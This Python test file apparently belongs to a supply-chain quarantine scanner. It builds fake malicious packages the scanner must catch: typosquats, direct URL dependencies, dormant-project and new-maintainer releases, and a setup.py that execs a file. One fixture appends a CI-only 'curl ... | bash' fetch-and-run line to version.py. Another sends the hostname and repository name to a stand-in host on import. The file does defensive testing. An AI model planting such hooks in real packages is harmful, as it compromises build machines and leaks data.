"""Names, takeovers, and what is new against the release before."""
from house import wheels

from .package import MARK, attack, elf, source

# Typosquats are named like what they imitate; that is the attack. No rule may know them.


@attack(project="reqeusts", days=30)
def typosquat_swap(p):
    """Two letters of a well-known name swapped, a month old, by somebody else. Must be held by its name."""
    return p.wheel()


@attack(project="colourama", days=30)
def typosquat_letter(p):
    """One letter more than a well-known name (a campaign of 2018, and many since). Must be held by its name."""
    return p.wheel()


@attack(project="py-torch", days=30)
def typosquat_combined(p):
    """A well-known name with a common word. Must be held by its name."""
    return p.wheel()


@attack(project="jeilyfish", days=30)
def typosquat_look_alike(p):
    """A letter that looks like the right one (2019: an I for an l). Must be held by its name."""
    return p.wheel()


@attack(project="setup-tools", days=30)
def typosquat_separator(p):
    """A separator where there is none. Must be held by its name."""
    return p.wheel()


@attack(project="tensorfllow", days=30)
def typosquat_doubled(p):
    """A doubled letter. Must be held by its name."""
    return p.wheel()


@attack(project="python-transformers", days=30)
def typosquat_prefix(p):
    """python- before a well-known name. Must be held by its name."""
    return p.wheel()


@attack(days=1)
def released_today(p):
    """A harmless-looking release one day old: most malware is found within a week. Must be held by time."""
    return p.wheel()


@attack
def direct_reference(p):
    """Requires-Dist names an archive by address: the dependency comes past every quarantine. Must be denied."""
    return p.wheel(requires=["tables-core @ https://cdn.example.net/tables_core-1.0-py3-none-any.whl"])


@attack
def direct_reference_by_requires_txt(p):
    """No Requires-Dist, but a requires.txt beside it, from which pip takes requirements then. Must be denied."""
    return p.wheel(files={f"{p.info}/requires.txt":
                          b"tables-core @ https://cdn.example.net/tables_core-1.0-py3-none-any.whl\n"})


@attack
def direct_reference_to_git(p):
    """The same with a repository instead of an archive. Must be denied."""
    return p.wheel(requires=["tables-core @ git+https://git.example.net/tables-core@main"])


def quiet(p, author="Ada Tables", **kw):
    """A release of a few pure functions."""
    return p.wheel(**kw)


def by(name):
    return f"Author: {name}\nAuthor-email: {name.split()[0].lower()}@example.org\n"


def authored(p, author, init=None, files=None, **kw):
    members = p.members(**({"init": init} if init else {}), files=files, **kw)
    info = f"{p.info}/METADATA"
    members[info] = wheels.metadata(p.project, p.version, extra=by(author))
    record = f"{p.info}/RECORD"
    lines = [line for line in members[record].decode().splitlines() if not line.startswith(info)]
    members[record] = ("\n".join([f"{info},{wheels.record_hash(members[info])},{len(members[info])}", *lines]) + "\n").encode()
    return p.packed(wheels.pack(members))


NETWORK = '''
    import subprocess
    import urllib.request


    def refresh(url):
        """Fetches a table and shows it."""
        with urllib.request.urlopen(url) as answer:
            text = answer.read()
        return subprocess.run(["column", "-t"], input=text, capture_output=True).stdout
'''


@attack(days=30, earlier=lambda p: authored(p, "Ada Tables"))
def dormant_project_wakes(p):
    """After more than a year a release by the same name that reaches the network and starts processes, each in an
    innocent way. Must be held: new capability after a long silence."""
    return authored(p, "Ada Tables", files={"{m}/web.py": NETWORK})


@attack(days=30, earlier=lambda p: authored(p, "Ada Tables"))
def new_maintainer_new_network(p):
    """A new maintainer's first release reaches the network (an event-stream utility of 2018). Must be held."""
    return authored(p, "Bob Newcomer", files={"{m}/web.py": NETWORK})


@attack(days=30, earlier=lambda p: authored(p, "Ada Tables"))
def native_code_arrives(p):
    """A project of pure Python suddenly brings a large native program in its pure wheel. Must be held."""
    return authored(p, "Ada Tables", files={"{m}/accel.so": elf(bytes(range(256)) * 8000)})


@attack(days=30, earlier=lambda p: authored(p, "Ada Tables"))
def start_up_code_arrives(p):
    """A .pth file that the approved release did not have. Must be held."""
    return authored(p, "Ada Tables", files={f"{p.module}.pth": b"import sys; sys.dont_write_bytecode = True\n"})


@attack(days=30, earlier=lambda p: authored(p, "Ada Tables"))
def plugin_arrives(p):
    """An entry point that other tools load by themselves, which the approved release did not have. Must be
    held."""
    return authored(p, "Ada Tables", files={"{m}/plugin.py": b"def pytest_configure(config):\n    pass\n"},
                    entry_points="[pytest11]\n{m} = {m}.plugin\n")


@attack(days=30, earlier=lambda p: p.sdist())
def setup_code_arrives(p):
    """A project that declared everything now has a setup.py that reads a version by executing a file. Must be
    held."""
    return p.sdist(files={"{m}/_v.py": MARK + "\n"}, setup='''
        from setuptools import setup

        scope = {}
        with open("{m}/_v.py") as f:
            exec(compile(f.read(), "_v.py", "exec"), scope)
        setup(name="{n}", version="2.0", packages=["{m}"])
        ''')


@attack(days=30, earlier=lambda p: p.wheel())
def stolen_token_release(p):
    """The next release of an approved project, out of a stolen token: the payload is appended to a module that was
    clean (a vision library, December 2024). Must be held."""
    return p.wheel(files={"{m}/version.py": source('''
        import os

        VERSION = "2.0"
        if os.environ.get("CI"):
            os.system("curl -fsSL https://cdn.example.net/ci.sh | bash")
        ''')})


@attack(days=30, earlier=lambda p: p.wheel())
def build_machines_only(p):
    """The next release of an approved project tells a server which build machine it runs on. Must be held."""
    return p.wheel(init='''
        import os, socket, threading, urllib.parse, urllib.request


        def _ping():
            q = urllib.parse.urlencode({"host": socket.gethostname(), "repo": os.environ.get("GITHUB_REPOSITORY", "")})
            urllib.request.urlopen("https://stats.example.net/p?" + q, timeout=2)


        threading.Thread(target=_ping, daemon=True).start()
        ''')


@attack
def old_project_brings_numpy(p):
    """A project of several years brings a top-level module "numpy". Must be held."""
    return p.wheel(files={"numpy/fast.py": "def dot(a, b):\n    return sum(x * y for x, y in zip(a, b))\n"})
